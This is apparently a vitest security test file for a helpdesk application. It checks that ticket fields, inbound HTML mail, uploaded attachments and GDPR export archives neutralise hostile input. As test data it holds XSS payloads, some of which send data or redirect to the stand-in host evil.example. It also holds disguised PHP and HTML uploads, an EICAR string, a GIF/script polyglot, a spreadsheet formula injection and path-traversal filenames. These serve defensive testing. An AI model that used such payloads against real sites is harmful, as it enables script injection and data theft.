/**
 * Attacks by markup, files and what goes out. Others are shown elsewhere: attachment-types.test.ts (names and contents in
 * disguise), attachments.test.ts (links that save and end, files of notes and strangers, what a scanner condemns or has not seen,
 * files after the end of a ticket), platform/files/files.test.ts (forged links), platform/mail/notice.test.ts (markup in our own
 * mails), platform/tables-out/tables-out.test.ts (formulas in CSV and XLSX), attacks/mail.test.ts (templates in mails).
 */
import { buffer } from 'node:stream/consumers'
import { afterAll, beforeAll, expect, test } from 'vitest'
import yauzl from 'yauzl'
import { customerOf } from '#testing/customer.ts'
import { openMailDoor, type MailDoor } from '#testing/mail-door.ts'
import { start, type Client, type TestApp } from '#testing/start.ts'
import { ratingToken } from '../satisfaction/links.ts'

let app: TestApp
let door: MailDoor
beforeAll(async () => {
  app = await start()
  door = await openMailDoor(app)
  const mailbox = { address: 'aide@moulin.example', name: 'Service' }
  expect((await app.as('anna').post('/tickets/mailboxes', mailbox)).status).toBe(201)
})
afterAll(async () => {
  await door[Symbol.asyncDispose]()
  await app[Symbol.asyncDispose]()
})

const markup = `"><img src=x onerror=alert(1)><svg/onload=alert(1)><script>alert(1)</script>'`

test('31: markup in a ticket comes out as data, which no browser takes for a page', async () => {
  const anna = app.as('anna')
  const fields = { subject: markup, description: markup, category: markup.slice(0, 100), internal_notes: markup }
  const more = {
    contact_email: 'eve@guest.example',
    contact_name: markup,
    tags: ['<b>x</b>'],
    metadata: { [markup]: 1 },
  }
  const made = await anna.post('/tickets', { ...fields, ...more })
  expect(made.body).toMatchObject({ ...fields, contact_name: markup })
  const path = `/tickets/${made.body.id}`
  await anna.post(`${path}/messages`, { content: markup })
  await anna.post(`${path}/resolve`, { resolution: markup })
  for (const address of [
    path,
    `${path}/messages`,
    `${path}/history`,
    '/tickets',
    `/tickets/${encodeURIComponent(markup)}`,
    `/tickets?search=${encodeURIComponent(markup)}`,
    `/tickets?sort=${encodeURIComponent('<script>alert(1)</script>')}`,
    `/public/tickets/${encodeURIComponent('<script>alert(1)</script>')}`,
  ]) {
    const { headers } = await anna.get(address)
    expect(headers['content-type'], address).toMatch(/^application\/(problem\+)?json/)
    expect(headers['x-content-type-options'], address).toBe('nosniff')
    expect(headers['content-security-policy'], address).toMatch(/script-src 'self'(;|$)/)
  }
})

test('31: markup in the name of a workspace, and in what a stranger sends, is text on the page of a rating', async () => {
  const anna = app.as('anna')
  const { etag } = (await anna.get('/workspace')).headers
  const renamed = await anna.patch('/workspace', { name: markup }, { 'if-match': String(etag) })
  expect(renamed.status, renamed.text).toBe(200)
  const opened = await anna.post('/tickets', {
    subject: markup,
    description: markup,
    contact_email: 'zed@guest.example',
    contact_name: markup,
  })
  await anna.post(`/tickets/${opened.body.id}/close`)
  const { workspaceId } = app.world
  const token = ratingToken(app.app.runtime, { workspaceId, ticketId: opened.body.id }, new Date())
  const form = { 'content-type': 'application/x-www-form-urlencoded' }
  const comment = encodeURIComponent(markup)
  const pages = [
    await app.anonymous.get(`//rate/${token}`),
    await app.anonymous.post(`//rate/${token}`, `rating=${comment}&comment=${comment}`, form),
    await app.anonymous.post(`//rate/${token}`, `rating=5&comment=${comment}`, form),
    await app.anonymous.get(`//rate/${encodeURIComponent(markup)}`),
  ]
  for (const page of pages) {
    expect(page.headers['content-type']).toMatch(/^text\/html/)
    expect(page.text).not.toMatch(/<(img|svg|script)/i)
    expect(page.headers['content-security-policy']).toMatch(/default-src 'none'/)
    expect(page.headers['content-security-policy']).not.toMatch(/script-src[^;]*unsafe/)
  }
  expect(pages[0]!.text).toContain('&#60;img src=x onerror=alert(1)&#62;')
})

test.each([
  ['nested words of script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['handlers', '<img src="https://evil.example/x" onerror="alert(1)"><body onload=alert(1)>'],
  ['markup that changes when it is read again', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['pictures made of markup', '<svg><animate attributeName=href values=javascript:alert(1) /><a id=x>y</a></svg>'],
  [
    'styles that send',
    '<style>@import "https://evil.example/x.css"; input[value^=a]{background:url(//evil.example)}</style>',
  ],
  ['a cover over the page', '<div style="position:fixed;inset:0;background:url(https://evil.example/x)">.</div>'],
  ['names that stand for others', '<form name=getElementById action="https://evil.example"><input name=body></form>'],
  ['a picture that signs out', '<img src="/api/v1/tickets/../session?_method=DELETE"><img src="cid:../../session">'],
  ['another page', '<meta http-equiv=refresh content="0;url=https://evil.example"><base href="https://evil.example/">'],
  ['frames', '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="https://evil.example"></object>'],
  [
    'links that run',
    '<a href="java&#10;script:alert(1)">y</a><a href="data:text/html,<script>alert(1)</script>">z</a>',
  ],
])('31, 32, 33, 34: of a mail in HTML with %s the words alone are shown', async (name, html) => {
  const from = `${name.replaceAll(' ', '-')}@field.example`
  const page = `<p>Good morning</p>${html}<p>Good night</p>`
  await door.send({ from, to: 'aide@moulin.example', subject: 'Cup', html: page })
  const { data } = (await app.as('anna').get(`/tickets?search=${from}`)).body
  expect(data).toHaveLength(1)
  const shown = await app.as('anna').get(`/tickets/${data[0].id}`)
  expect(shown.body.description).toContain('Good morning')
  expect(shown.text).not.toMatch(/<\/?(script|img|svg|math|style|iframe|object|form|meta|base|a|div)\b/i)
  expect(shown.text).not.toMatch(/evil\.example|javascript:|onerror|onload|@import|url\(/i)
})

const gif = 'GIF89a=1;/*\0\0*/alert(1)//<script>alert(1)</script>'
const attach = (client: Client, ticket: string, name: string, content: string) => {
  const head = `--x\r\ncontent-disposition: form-data; name="file"; filename="${name}"\r\ncontent-type: text/html\r\n\r\n`
  const form = { 'content-type': 'multipart/form-data; boundary=x' }
  const body = Buffer.concat([Buffer.from(head), Buffer.from(content, 'latin1'), Buffer.from('\r\n--x--\r\n')])
  return client.post(`/tickets/${ticket}/attachments`, body, form)
}

test('35: files in disguise are not taken, and nothing of them is kept', async () => {
  const chloe = await customerOf(app, 'chloe')
  const { id } = (await chloe.post('/tickets', { subject: 'S', description: 'D' })).body as { id: string }
  for (const [name, content] of [
    ['page.png.html', '<html>'],
    ['shell.php.png', '\u0089PNG\r\n\u001a\n'],
    ['shell.p\u200bhp.png', '\u0089PNG\r\n\u001a\n'],
    ['page.html.', '<html>'],
    ['page.html ', '<html>'],
    ['page.html::$DATA', '<html>'],
    ['page.ht\u200bml', '<html>'],
    ['page\u202egnp.html', '<html>'],
    ['\u200b.htaccess', 'AddType text/html .txt'],
    ['shell.pHt', '<?php'],
    ['pagｅ.ｈｔｍｌ', '<html>'],
    ['picture.svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
    ['picture.png', '<svg onload=alert(1)>'],
    ['paper.pdf', '<html><script>alert(1)</script>%PDF-1.7'],
    ['text.txt', '<!-- x --><html><script>alert(1)</script>'],
    ['mail.eml', 'From: a'],
    ['page.mht', 'MIME-Version: 1.0'],
    ['page.xhtml', '<html xmlns="http://www.w3.org/1999/xhtml">'],
  ] as const) {
    const refused = await attach(chloe, id, name, content)
    expect(refused.status, `${JSON.stringify(name)}: ${refused.text}`).toBe(415)
  }
  expect((await chloe.get(`/tickets/${id}/attachments`)).body.data).toEqual([])
  const keys: string[] = []
  for await (const key of app.app.runtime.files.list(`${app.world.workspaceId}/tickets/${id}`)) keys.push(key)
  expect(keys).toEqual([])
})

test('36: a virus that comes by mail is not kept, and what no scanner has seen is not handed out', async () => {
  const { scan } = app.app.runtime
  const before = scan.scan
  const from = 'virus@field.example'
  try {
    scan.scan = async (content) => {
      const text = (await buffer(content)).toString()
      if (text.includes('EICAR')) return { verdict: 'infected', signature: 'Eicar' }
      return { verdict: 'unavailable', reason: 'asleep' }
    }
    const attachments = [
      { filename: 'virus.txt', content: 'X5O!P%@AP-EICAR-STANDARD-ANTIVIRUS-TEST-FILE' },
      { filename: 'notes.txt', content: 'notes' },
    ]
    await door.send({ from, to: 'aide@moulin.example', subject: 'Files', text: 'See both.', attachments })
    const { data } = (await app.as('anna').get(`/tickets?search=${from}`)).body
    const files = (await app.as('anna').get(`/tickets/${data[0].id}/attachments`)).body.data
    expect(files).toMatchObject([{ file_name: 'notes.txt', scan: 'pending' }])
    const link = await app.as('anna').get(`/tickets/${data[0].id}/attachments/${files[0].id}/download`)
    expect(link.status).toBe(503)
    const [note] = (await app.as('anna').get(`/tickets/${data[0].id}/messages`)).body.data
    expect(note).toMatchObject({ is_internal: true, author_kind: 'program' })
    expect(note.content).toContain('virus.txt')
  } finally {
    scan.scan = before
  }
})

test('36, 37: a picture that is a program too is only ever saved, by nobody’s link but the one that was given', async () => {
  const dan = await customerOf(app, 'dan')
  const { id } = (await dan.post('/tickets', { subject: 'S', description: 'D' })).body as { id: string }
  const made = await attach(dan, id, 'a.gif', gif)
  expect(made.status, made.text).toBe(201)
  const { url } = (await dan.get(`/tickets/${id}/attachments/${made.body.id}/download`)).body as { url: string }
  const address = new URL(url).pathname
  const file = await app.app.http.inject({ url: address })
  expect(file.statusCode).toBe(200)
  expect(file.headers['content-disposition']).toMatch(/^attachment;/)
  expect(file.headers['x-content-type-options']).toBe('nosniff')
  expect(file.headers['content-security-policy']).toMatch(/sandbox/)
  expect(file.headers['content-type']).not.toMatch(/html|javascript|svg|xml/)
  for (const [method, other] of [
    ['GET', address.slice(0, -1)],
    ['GET', `${address}.html`],
    ['GET', address.replace(/.$/, (last) => (last === 'A' ? 'B' : 'A'))],
    ['GET', `${address}/../${id}`],
    ['PUT', address],
    ['POST', address],
    ['DELETE', address],
  ] as const) {
    const reply = await app.app.http.inject({ method, url: other, payload: method === 'PUT' ? 'x' : undefined })
    expect([400, 403, 404, 405], `${method} ${other}`).toContain(reply.statusCode)
  }
  expect((await app.app.http.inject({ url: address })).rawPayload.toString('latin1')).toBe(gif)
})

test('35: a copy of somebody’s data unpacks into its own folder, whatever their files are called', async () => {
  const ivy = await customerOf(app, 'ivy')
  const { id } = (await ivy.post('/tickets', { subject: markup, description: '=cmd|x' })).body as { id: string }
  for (const name of ['../../../etc/passwd.txt', '..%2f..%2fetc%2fpasswd.txt', 'C:/temp/x.txt', '/etc/x.txt']) {
    const made = await attach(ivy, id, name, 'x')
    expect(made.status, made.text).toBe(201)
  }
  const asked = await app.as('anna').post('/gdpr/export', { user_id: ivy.id })
  expect(asked.status, asked.text).toBe(202)
  await app.drain()
  const { download_url: url } = (await app.as('anna').get(`/gdpr/requests/${asked.body.request_id}`)).body
  const zip = await yauzl.fromBufferPromise(
    (await app.app.http.inject({ url: new URL(url as string).pathname })).rawPayload,
  )
  const names: string[] = []
  for await (const entry of zip.eachEntry()) {
    names.push(entry.fileName)
    if (entry.fileName === 'data.json') {
      expect((await buffer(await zip.openReadStreamPromise(entry))).toString()).toContain('alert(1)')
    }
  }
  expect(names.filter((name) => name.endsWith('.txt') && name.startsWith('files/'))).toHaveLength(4)
  expect(new Set(names).size).toBe(names.length)
  for (const name of names) {
    expect(name).not.toMatch(/^\/|\\|:|(^|\/)\.\.(\/|$)/)
  }
})
